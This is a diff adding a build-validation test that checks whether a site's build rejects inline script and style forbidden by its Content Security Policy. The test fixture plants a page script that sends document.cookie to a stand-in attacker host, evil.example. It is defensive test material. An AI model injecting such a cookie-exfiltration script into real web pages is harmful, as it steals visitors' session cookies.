@@ -200,6 +200,34 @@ test.describe('build-time validation', () => {
     );
   });
 
+  test('inline code the site did not write fails the build, naming the page and the first characters', async () => {
+    const build = await buildAndDiscard((dir) =>
+      fs.writeFile(
+        path.join(dir, 'src/pages/changelog.tsx'),
+        [
+          "import React from 'react';",
+          '',
+          'export default function Changelog() {',
+          '  return (',
+          '    <main>',
+          "      <h1 style={{ color: 'red' }}>Changelog</h1>",
+          '      <script dangerouslySetInnerHTML={{ __html: "fetch(\'https://evil.example/?c=\' + document.cookie)" }} />',
+          '    </main>',
+          '  );',
+          '}',
+          '',
+        ].join('\n'),
+      ),
+    );
+    expectStopped(
+      build,
+      'Inline code the site did not write, which the Content Security Policy does not allow:',
+      `- Inline script "fetch('https://evil.example/?c=' + document.cookie)" on /changelog -`,
+      '- Style attribute "color:red" on /changelog',
+      'Content may not carry scripts or styles',
+    );
+  });
+
   test('a page module without a default export fails the build naming the file and the fix', async () => {
     const build = await buildAndDiscard((dir) =>
       fs.writeFile(
